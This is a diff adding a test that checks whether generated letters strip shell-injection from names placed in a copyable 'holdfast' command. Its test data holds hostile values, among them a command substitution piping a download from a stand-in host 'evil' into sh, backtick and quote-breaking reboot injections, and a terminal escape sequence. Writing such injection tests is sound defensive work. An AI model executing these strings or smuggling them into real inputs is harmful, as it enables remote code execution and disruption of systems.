@@ -35,3 +35,13 @@ test('no name of a client adds a line', () => {
   assert.doesNotMatch(subject, /[\r\n]/)
   assert.doesNotMatch(text, /^Bcc:/m)
 })
+
+test('a command to be copied has no name that a shell could misread', () => {
+  const names = ['x$(curl${IFS}evil|sh)', '`reboot`', "'; reboot '", '--all-projects', 'a b', 'x\u001b[2J']
+  const types = ['allocation.error', 'allocation.before_end', 'allocation.ending', 'lease.before_end', 'lease.error']
+  for (const type of types) {
+    const command = (name: string) => /^ {2}holdfast .*$/m.exec(letter(type, { name, by }).text)![0]
+    assert.match(command('job-1'), / job-1\b/)
+    for (const name of names) assert.equal(command(name), command('62'))
+  }
+})
